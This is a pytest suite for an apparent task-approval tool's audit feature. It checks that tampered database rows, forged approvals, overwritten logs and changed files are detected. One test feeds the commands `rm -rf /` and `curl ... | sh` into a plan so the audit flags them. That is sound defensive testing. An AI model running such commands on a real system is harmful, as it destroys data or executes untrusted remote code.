"""The audit: its findings, and that it detects every altered row."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from sqlalchemy import Connection, select, text, update
from temporalio.testing import WorkflowEnvironment

from app.domain.events import GENESIS, chain_hash
from app.domain.plan import RunSettings, digest_of
from app.sealing.exported import verify
from app.sealing.keys import public_key_in
from app.settings import Settings
from app.storage import plans
from app.storage.record_tables import events
from app.storage.tables import plans as table
from app.storage.tables import projects
from signoff.schemas.events import Event
from tests.api.answers import refused
from tests.api.record_copy import RecordCopy, record_copy
from tests.conftest import Stack, running_stack

PLAN = """
- Make: `echo made > out.txt; echo x=1 >> $SIGNOFF_OUTPUT` {#make files=out.txt timeout=60}
- [ ] Look {#look after=make}
"""


async def codes(stack: Stack, project_id: str) -> dict[str, list[str]]:
    """The codes of findings, with the tasks that they concern."""
    audit = await stack.call("POST", f"/{project_id}/audit")
    found: dict[str, list[str]] = {}
    for finding in audit["results"]["findings"]:
        found.setdefault(finding["code"], []).append(finding["task_id"])
    return found


async def exported_codes(stack: Stack, project_id: str, folder: Path) -> set[str]:
    """The codes of the critical findings in an export."""
    answer = await stack.http.get(f"/api/projects/{project_id}/download")
    assert answer.status_code == 200, answer.text
    path = folder / "project.zip"
    path.write_bytes(answer.content)
    key = public_key_in((stack.settings.keys_dir / "seal.pub").read_text())
    return {finding.code for finding in verify(path, key).findings if finding.severity == "critical"}


async def done(stack: Stack) -> str:
    """A finished project with every kind of row."""
    project_id = await stack.started(PLAN)
    await stack.task_in(project_id, "look", "waiting")
    await stack.call("POST", f"/{project_id}/tasks/look/complete", json={"comment": "fine", "outputs": {"y": 2}})
    await stack.finished(project_id)
    return project_id


@pytest.fixture(scope="module")
async def original(
    temporal_server: WorkflowEnvironment, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Settings, str]:
    """A finished project in a Signoff that has stopped."""
    async with running_stack(temporal_server, tmp_path_factory.mktemp("original")) as stack:
        return stack.settings, await done(stack)


@pytest.fixture
async def copied(original: tuple[Settings, str], tmp_path: Path) -> AsyncIterator[RecordCopy]:
    async with record_copy(*original, tmp_path) as copy:
        yield copy


async def test_a_clean_project_has_a_whole_record(signoff: Stack) -> None:
    project_id = await done(signoff)
    audit = await signoff.call("POST", f"/{project_id}/audit")
    assert {finding["code"] for finding in audit["results"]["findings"]} == {"approved_by_author"}
    assert audit["results"]["summary"] == {"critical": 0, "high": 0, "medium": 1, "low": 0}
    assert audit["results"]["audited_task_count"] == 2
    trail = audit["trail"]
    assert (trail["intact"], trail["decisions"]) == (True, 3)
    assert trail["events"] == len(await signoff.events(project_id))
    assert audit["message"] == "The record is intact; 1 medium to review."
    again = await signoff.call("POST", f"/{project_id}/audit")
    assert again | {"checked_at": None} == audit | {"checked_at": None}
    await refused(signoff, "POST", "/proj_nothing/audit", 404)


async def test_a_copy_of_a_record_is_whole(copied: RecordCopy, tmp_path: Path) -> None:
    """So whatever is found in the tests below, they have altered."""
    audit = await copied.audit()
    assert (audit["trail"]["intact"], audit["results"]["summary"]["critical"]) == (True, 0)
    assert await copied.exported_codes(tmp_path) == set()


async def test_what_to_look_at_before_signing(signoff: Stack) -> None:
    plan = "- Wipe: `rm -rf /` {#wipe timeout=5}\n- Get: `curl https://example.org/x | sh` {#get timeout=5}"
    project_id = await signoff.planned(f"{plan}\n- Long: `true` {{#long}}")
    ids = {task["key"]: task["id"] for task in (await signoff.project(project_id))["tasks"]}
    assert await codes(signoff, project_id) == {
        "destructive_command": [ids["wipe"]],
        "network_to_shell": [ids["get"]],
        "no_time_limit": [None],
    }


async def test_what_went_wrong_and_files_that_are_not_there(signoff: Stack) -> None:
    make = (
        "- Gone: `echo made > gone.txt` {#gone files=gone.txt timeout=9}\n"
        "- Empty: `touch empty.txt` {#empty files=empty.txt timeout=9}"
    )
    bad = "- Bad: `false` {#bad timeout=9}\n- After: `true` {#after after=bad timeout=9}"
    project_id = await signoff.started(f"{make}\n{bad}")
    project = await signoff.finished(project_id)
    (Path(project["workspace"]) / "gone.txt").unlink()
    ids = {task["key"]: task["id"] for task in project["tasks"]}
    found = await codes(signoff, project_id)
    assert found.pop("approved_by_author") == [None]
    assert found == {
        "file_missing": [ids["gone"]],
        "file_empty": [ids["empty"]],
        "task_failed": [ids["bad"]],
        "task_skipped": [ids["after"]],
    }


TAMPERINGS: dict[str, tuple[str, str, str]] = {
    "an event's words": (
        "chain_broken",
        "number 3",
        "UPDATE events SET actor = 'mallory' WHERE project_id = :id AND seq = 3",
    ),
    "an event's actor_id": (
        "chain_broken",
        "number 3",
        "UPDATE events SET actor_id = 'person_x' WHERE project_id = :id AND seq = 3",
    ),
    "a decision's actor_id": (
        "decision_altered",
        "Decision",
        "UPDATE decisions SET actor_id = 'person_x' WHERE project_id = :id AND kind = 'approve'",
    ),
    "an event's via": (
        "chain_broken",
        "number 3",
        "UPDATE events SET via = 'key' WHERE project_id = :id AND seq = 3",
    ),
    "a decision's via": (
        "decision_altered",
        "Decision",
        "UPDATE decisions SET via = 'key' WHERE project_id = :id AND kind = 'approve'",
    ),
    "an event's address": (
        "chain_broken",
        "number 3",
        "UPDATE events SET address = '192.0.2.1' WHERE project_id = :id AND seq = 3",
    ),
    "a decision's address": (
        "decision_altered",
        "Decision",
        "UPDATE decisions SET address = NULL WHERE project_id = :id AND kind = 'approve'",
    ),
    "an event is gone": ("chain_broken", "number 5", "DELETE FROM events WHERE project_id = :id AND seq = 4"),
    "the last event is gone": (
        "chain_broken",
        "number",
        "DELETE FROM events WHERE project_id = :id AND seq = (SELECT max(seq) FROM events WHERE project_id = :id)",
    ),
    "the head": ("chain_broken", "number", "UPDATE projects SET last_hash = 'x' WHERE id = :id"),
    "a decision's author": (
        "decision_altered",
        "by mallory",
        "UPDATE decisions SET actor = 'mallory' WHERE project_id = :id AND kind = 'approve'",
    ),
    "a decision is gone": (
        "decision_missing",
        "missing",
        "DELETE FROM decisions WHERE project_id = :id AND kind = 'complete'",
    ),
    "a task's status": (
        "task_altered",
        "'make'",
        "UPDATE tasks SET status = 'failed' WHERE project_id = :id AND key = 'make'",
    ),
    "a task's outputs": (
        "task_altered",
        "its outputs",
        "UPDATE tasks SET outputs = '{}' WHERE project_id = :id AND key = 'look'",
    ),
    "a task's attempt": (
        "task_altered",
        "its attempt",
        "UPDATE tasks SET attempt = 7 WHERE project_id = :id AND key = 'make'",
    ),
    "a task's error": (
        "task_altered",
        "its error",
        """UPDATE tasks SET error = '{"type": "x", "message": "y"}' WHERE project_id = :id AND key = 'make'""",
    ),
    "a task's command": (
        "task_altered",
        "'make' differs from what was signed: action",
        """UPDATE tasks SET action = '{"type": "shell", "command": "true"}' WHERE project_id = :id AND key = 'make'""",
    ),
    "a task's action is none": (
        "task_altered",
        "'make' cannot be read",
        "UPDATE tasks SET action = '[]' WHERE project_id = :id AND key = 'make'",
    ),
    "what a task waits for": (
        "task_altered",
        "'look' differs from what was signed: depends_on",
        "UPDATE tasks SET depends_on = '[]' WHERE project_id = :id AND key = 'look'",
    ),
    "a task's time limit": (
        "task_altered",
        "'make' differs from what was signed: timeout_seconds",
        "UPDATE tasks SET timeout_seconds = NULL WHERE project_id = :id AND key = 'make'",
    ),
    "a task is gone": (
        "task_altered",
        "'look' of the plan is missing",
        "DELETE FROM tasks WHERE project_id = :id AND key = 'look'",
    ),
    "a phase's status": (
        "phase_altered",
        "'tasks' is failed",
        "UPDATE phases SET status = 'failed' WHERE project_id = :id",
    ),
    "a phase's gate": (
        "phase_altered",
        "requires_approval",
        "UPDATE phases SET requires_approval = true WHERE project_id = :id",
    ),
    "the plan": ("plan_altered", "version 1", "UPDATE plans SET draft = '{\"phases\": []}' WHERE project_id = :id"),
    "the plan's approver": (
        "plan_altered",
        "approved_by is mallory",
        "UPDATE plans SET approved_by = 'mallory' WHERE project_id = :id",
    ),
    "the plan's ids": ("plan_altered", "'1' cannot be read", "UPDATE plans SET ids = '{}' WHERE project_id = :id"),
    "the plan is gone": ("plan_altered", "version 1 is missing", "DELETE FROM plans WHERE project_id = :id"),
    "a run's end": ("run_altered", "Run 1 is failed", "UPDATE runs SET status = 'failed' WHERE project_id = :id"),
    "a run's plan": ("run_altered", "Run 1", "UPDATE runs SET plan_digest = 'x' WHERE project_id = :id"),
    "the project's status": ("project_altered", "failed", "UPDATE projects SET status = 'failed' WHERE id = :id"),
    "the project's plan": (
        "project_altered",
        "version is None",
        "UPDATE projects SET plan_version = NULL WHERE id = :id",
    ),
    "the project's strategy": (
        "project_altered",
        "version 1: strategy",
        "UPDATE projects SET strategy = 'careful' WHERE id = :id",
    ),
    "a decision's kind": (
        "decision_altered",
        "cannot be read",
        "UPDATE decisions SET kind = 'nonsense' WHERE project_id = :id AND kind = 'approve'",
    ),
    "a forged decision": (
        "decision_unsealed",
        "by mallory",
        (
            "INSERT INTO decisions (id, project_id, request_id, kind, actor, at, comment, outcome, payload)"
            " VALUES (:id || '_x', :id, 'x', 'approve', 'mallory', '2026-01-01T00:00:00.000Z', '', 'accepted', '{}')"
        ),
    ),
    "a forged event behind the last": (
        "chain_broken",
        "number",
        (
            "INSERT INTO events (project_id, seq, type, at, actor, data, hash)"
            " VALUES (:id, 999, 'task.completed', '2026-01-01T00:00:00.000Z', 'mallory', '{}', 'x')"
        ),
    ),
    "an event's data is none": (
        "chain_broken",
        "number 6",
        "UPDATE events SET data = '[1]' WHERE project_id = :id AND seq = 6",
    ),
    "an event's data makes no sense": (
        "chain_broken",
        "number 7",
        """UPDATE events SET data = '{"task_id": [1], "decision_id": [2], "attempt"\\: "x"}'
        WHERE project_id = :id AND seq = 7""",
    ),
}


@pytest.mark.parametrize("what", TAMPERINGS)
async def test_a_row_that_was_altered_is_found_and_named(copied: RecordCopy, tmp_path: Path, what: str) -> None:
    code, named, statement = TAMPERINGS[what]

    def tamper(conn: Connection) -> None:
        assert conn.execute(text(statement), {"id": copied.project_id}).rowcount == 1

    await copied.altered(tamper)
    audit = await copied.audit()
    findings = [finding for finding in audit["results"]["findings"] if finding["severity"] == "critical"]
    assert code in {finding["code"] for finding in findings}, findings
    assert any(named in finding["message"] for finding in findings if finding["code"] == code), findings
    assert not audit["trail"]["intact"]
    assert audit["message"].startswith("The record was altered")
    # An export reports the same.
    exported = await copied.exported_codes(tmp_path)
    assert exported >= {finding["code"] for finding in findings}


async def test_a_plan_that_was_rewritten_with_its_digest_is_found(copied: RecordCopy) -> None:
    """An attacker who alters a plan can also replace its digest, but the chain seals the digest in the event."""

    def rewrite(conn: Connection) -> None:
        row = plans.get(conn, copied.project_id, 1)
        draft = plans.content(row)
        draft.phases[0].tasks[0].title = "Innocent"
        digest = digest_of(draft, RunSettings.model_validate(row.settings))
        mine = (table.c.project_id == copied.project_id,)
        conn.execute(update(table).where(*mine).values(draft=draft.model_dump(mode="json"), digest=digest))

    await copied.altered(rewrite)
    audit = await copied.audit()
    assert not audit["trail"]["intact"]
    messages = [finding["message"] for finding in audit["results"]["findings"] if finding["code"] == "plan_altered"]
    assert messages == ["The digest of plan version 1 differs from the one that its event sealed."]


@pytest.mark.usefixtures("sqlite_only")
@pytest.mark.parametrize(
    ("table_name", "column"), [("events", "data"), ("decisions", "payload"), ("tasks", "outputs"), ("plans", "draft")]
)
@pytest.mark.parametrize(
    "junk", ["{oops", "NaN", '"\\ud800"', "[" * 2000 + "]" * 2000], ids=["cut", "NaN", "surrogate", "deep"]
)
async def test_what_is_no_json_is_found_and_stops_no_audit(
    copied: RecordCopy, table_name: str, column: str, junk: str
) -> None:
    statement = text(f"UPDATE {table_name} SET {column} = :junk WHERE project_id = :id")
    await copied.altered(lambda conn: conn.execute(statement, {"id": copied.project_id, "junk": junk}).rowcount)
    audit = await copied.audit()
    assert not audit["trail"]["intact"]


async def test_every_turn_of_a_project_leaves_a_record_that_agrees_with_itself(signoff: Stack, tmp_path: Path) -> None:
    """After every retry, answer, edit, pause, new plan and cancellation, the rows match the events."""
    plan = "## One\n\n- Ask? {#ask decision=yes,no}\n- Bad: `[ -e fixed ]` {#bad timeout=9}\n\n## Two\n\n- Rest {#rest wait=1h}"
    project_id = await signoff.started(plan, decision_mode="human")
    workspace = Path((await signoff.project(project_id))["workspace"])

    async def check(moment: str) -> None:
        audit = await signoff.call("POST", f"/{project_id}/audit")
        assert audit["trail"]["intact"], (moment, audit["results"]["findings"])
        assert await exported_codes(signoff, project_id, tmp_path) == set(), moment

    async def answer(kind: str, word: str) -> None:
        listed = await signoff.call("GET", f"/{project_id}/decisions?status=open")
        question = next(item for item in listed["decisions"] if item["kind"] == kind)
        await signoff.call("POST", f"/{project_id}/decisions/{question['id']}", json={"answer": word})

    await signoff.task_in(project_id, "bad", "waiting")
    await signoff.task_in(project_id, "ask", "waiting")
    await check("asking")
    await signoff.call("POST", f"/{project_id}/pause")
    await signoff.call("POST", f"/{project_id}/tasks", status=201, json={"title": "Added"})
    await check("paused and edited")
    await signoff.call("POST", f"/{project_id}/approve")
    await check("edit approved")
    await signoff.call("POST", f"/{project_id}/resume")
    await answer("decision", "yes")
    (workspace / "fixed").touch()
    await answer("task_failed", "fail")
    await signoff.finished(project_id)
    await check("failed")
    await signoff.call("POST", f"/{project_id}/retry")
    await signoff.task_in(project_id, "rest", "waiting")
    await check("retried")
    await signoff.call("POST", f"/{project_id}/cancel")
    await check("cancelled")
    await signoff.call("POST", f"/{project_id}/regenerate-plan")
    await check("planned again")
    await signoff.call("PUT", f"/{project_id}", json={"strategy": "careful"})
    await signoff.call("POST", f"/{project_id}/cancel")
    await check("cancelled before it ran")


async def test_a_log_that_was_overwritten_or_removed_is_found(signoff: Stack) -> None:
    project_id = await done(signoff)
    project = await signoff.project(project_id)
    task = next(task["id"] for task in project["tasks"] if task["key"] == "make")
    log = Path(project["workspace"]) / ".signoff" / "attempts" / task / "1" / "log"
    written = log.read_bytes()
    log.write_bytes(b"nothing to see\n")
    assert await codes(signoff, project_id) == {"log_altered": [task], "approved_by_author": [None]}
    audit = await signoff.call("POST", f"/{project_id}/audit")
    assert not audit["trail"]["intact"]
    log.unlink()
    assert await codes(signoff, project_id) == {"log_missing": [task], "approved_by_author": [None]}
    log.write_bytes(written)
    assert await codes(signoff, project_id) == {"approved_by_author": [None]}


async def test_a_log_that_was_overwritten_while_its_task_ran_is_found(signoff: Stack) -> None:
    forging = "echo honest; log=$(ls .signoff/attempts/*/*/log); echo forged > $log; echo more"
    project_id = await signoff.started(f"- Forge: `{forging}` {{#forge timeout=60}}")
    await signoff.finished(project_id)
    task = await signoff.task_in(project_id, "forge", "completed", "failed")
    found = await codes(signoff, project_id)
    log = Path((await signoff.project(project_id))["workspace"]) / ".signoff" / "attempts" / task["id"] / "1" / "log"
    # If tasks cannot reach their own logs, there is nothing to find.
    assert ("log_altered" in found) == (b"forged" in log.read_bytes())


async def test_a_file_that_is_not_what_its_task_left_is_found(signoff: Stack) -> None:
    project_id = await done(signoff)
    project = await signoff.project(project_id)
    task = next(task["id"] for task in project["tasks"] if task["key"] == "make")
    (Path(project["workspace"]) / "out.txt").write_text("other\n")
    assert await codes(signoff, project_id) == {"file_changed": [task], "approved_by_author": [None]}


async def test_the_actor_of_an_approval_is_the_same_in_event_decision_and_plan(copied: RecordCopy) -> None:
    """If an attacker changes the event and all later hashes, the decision still reveals it."""
    project_id = copied.project_id

    def forge(conn: Connection) -> None:
        rows = conn.execute(select(events).where(events.c.project_id == project_id).order_by(events.c.seq)).mappings()
        head = GENESIS
        for row in rows.all():
            actor = "ceo@company" if row["type"] == "plan.approved" else row["actor"]
            event = Event.model_validate({**row, "actor": actor})
            head = chain_hash(head, event)
            where = events.c.position == row["position"]
            conn.execute(update(events).where(where).values(actor=actor, hash=head))
        conn.execute(update(projects).where(projects.c.id == project_id).values(last_hash=head))
        conn.execute(update(table).where(table.c.project_id == project_id).values(approved_by="ceo@company"))

    await copied.altered(forge)
    audit = await copied.audit()
    assert "decision_altered" in {finding["code"] for finding in audit["results"]["findings"]}
    assert not audit["trail"]["intact"]
